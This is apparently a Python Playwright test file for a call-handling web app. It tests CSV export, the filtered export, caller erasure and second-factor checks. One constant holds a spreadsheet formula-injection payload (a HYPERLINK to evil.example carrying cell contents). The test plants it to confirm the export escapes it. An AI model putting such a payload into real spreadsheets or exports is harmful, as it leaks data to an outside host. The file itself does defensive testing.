"""What callers and businesses have a right to: to take everything along, and to be forgotten."""

from __future__ import annotations

import csv
import uuid
from io import StringIO
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.database.journal import DENTIST, PLUMBER
from tests.web.browser import Window
from tests.web.conftest import PLUMBERS_OWNER, VIEWER, Office
from tests.web.stories import COMPLAINT, Story, talk
from tests.web.telling import tell

pytestmark = pytest.mark.web

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"a, b")'
MANY = 1_050  # more than one answer holds; five of them in each moment
LONG_AGO = """
  insert into public.calls (id, client_id, to_e164, from_e164, status, end_reason, started_at, answered_at, ended_at)
  select gen_random_uuid(), %s, '+15105550111', '+15105550188', 'completed', 'goodbye', t, t, t + interval '1 minute'
  from generate_series(1, %s) n, lateral (select now() - interval '100 days' - make_interval(secs => n / 5)) s (t)"""
JOKER = """
  insert into public.call_outcomes (call_id, client_id, outcome, sentiment, sentiment_score, estimated_revenue,
    currency, analysis_version, model, caller_name, summary)
  select id, client_id, 'booked', 'neutral', 0, 0, 'USD', 1, 'rules-1', %s, 'Said "hello".\nThen, on a second line.'
  from public.calls where client_id = %s and started_at < now() - interval '99 days' order by id limit 1"""


def saved(window: Window, label: str) -> Path:
    """What the browser saves when that is pressed."""
    with window.page.expect_download() as download:
        window.page.get_by_role("main").get_by_role("button", name=label).click()
    return Path(download.value.path())


def table(path: Path) -> list[dict[str, str]]:
    """A CSV file as a spreadsheet opens it."""
    text = path.read_bytes().decode()
    assert text.startswith("\ufeff")
    return list(csv.DictReader(StringIO(text[1:], newline="")))


def test_all_calls_are_saved_for_a_spreadsheet(window: Window, office: Office) -> None:
    """More than an answer holds, each once, newest first; what a caller made a formula is text of its cell."""
    with office.database.admin() as connection:
        connection.execute(LONG_AGO, [PLUMBER, MANY])
        connection.execute(JOKER, [FORMULA, PLUMBER])
    office.comes_back(window, f"#/c/{PLUMBER}/calls", PLUMBERS_OWNER)
    window.heading("Calls")
    rows = table(saved(window, "Save them all for a spreadsheet"))
    with office.database.admin() as connection:
        ids = connection.execute(
            "select id::text from public.calls where client_id = %s order by started_at desc, id desc", [PLUMBER]
        )
        assert [row["id"] for row in rows] == [each for (each,) in ids]
    joker = next(row for row in rows if FORMULA in row["caller_name"])
    assert joker["caller_name"] == f"'{FORMULA}"
    assert joker["summary"] == ('Said "hello".\nThen, on a second line.')
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "@")]
    expect(window.page.get_by_role("main")).to_contain_text(f"{len(rows):,} calls.")


def test_the_filter_goes_for_the_file_too(window: Window, office: Office) -> None:
    """A viewer saves the missed calls: those of the list, and no others."""
    office.comes_back(window, f"#/c/{DENTIST}/calls?standing=missed", VIEWER)
    window.heading("Calls")
    rows = table(saved(window, "Save them all for a spreadsheet"))
    missed = "select count(*) from public.calls where client_id = %s and answered_at is null and ended_at is not null"
    assert len(rows) == office.database.one(f"{missed} and status <> 'rejected'", DENTIST)
    assert {row["answered_at"] for row in rows} == {""}


def forgettable(office: Office, number: str) -> tuple[str, Story]:
    """A call of somebody who wants to be forgotten."""
    story = Story(number, talk("This is Vera Blau. Please forget me.", "I will tell the practice."), COMPLAINT.judged)
    return tell(office.database, DENTIST, story, 400), story


def test_a_caller_is_forgotten(window: Window, office: Office) -> None:
    """It is told what goes, and asked once more; then nothing of it is left, on the page and in the database."""
    call, story = forgettable(office, "+15105550163")
    again = tell(office.database, DENTIST, story, 500)
    office.comes_back(window, f"#/c/{DENTIST}/calls/{call}")
    main = window.page.get_by_role("main")
    expect(main).to_contain_text("Vera Blau")
    forget = main.get_by_role("button", name="Forget this caller")
    forget.click()
    expect(main).to_contain_text("This cannot be undone.")
    main.get_by_role("button", name="No, leave it as it is").click()
    expect(forget).to_be_focused()
    expect(main).to_contain_text("Vera Blau")
    forget.click()
    forget.click()
    expect(main).to_contain_text("what was said and the number are gone. In 2 calls.")
    expect(main.get_by_role("heading", name="Forget this caller")).to_be_focused()
    expect(main.locator("ol.transcript")).to_have_count(0)
    assert "Vera Blau" not in main.inner_text()
    assert str(story.number) not in main.inner_text()
    with office.database.admin() as connection:
        left = connection.execute(
            "select from_e164, erased_at is not null from public.calls where id = any(%s)", [[call, again]]
        )
        assert left.fetchall() == [(None, True), (None, True)]
    assert not [url for url in window.seen.asked if str(story.number).strip("+") in url]


def test_a_viewer_has_nobody_forgotten(window: Window, office: Office) -> None:
    """It is not offered to him."""
    call, _ = forgettable(office, "+15105550164")
    office.comes_back(window, f"#/c/{DENTIST}/calls/{call}", VIEWER)
    main = window.page.get_by_role("main")
    expect(main).to_contain_text("Vera Blau")
    expect(main.get_by_role("button", name="Forget this caller")).to_have_count(0)


def test_a_missing_second_factor_is_told_as_that(window: Window, office: Office) -> None:
    """A business that wants one refuses the erasure to a session without, in words; nothing is gone."""
    call, _ = forgettable(office, "+15105550165")
    factor = "update public.clients set second_factor = %s where id = %s"
    try:
        with office.database.admin() as connection:
            connection.execute(factor, [True, DENTIST])
        office.comes_back(window, f"#/c/{DENTIST}/calls/{call}")
        main = window.page.get_by_role("main")
        main.get_by_role("button", name="Forget this caller").click()
        main.get_by_role("button", name="Forget this caller").click()
        expect(main).to_contain_text("This business wants a second factor for this.")
        assert office.database.one("select from_e164 from public.calls where id = %s", uuid.UUID(call)) is not None
    finally:
        with office.database.admin() as connection:
            connection.execute(factor, [False, DENTIST])
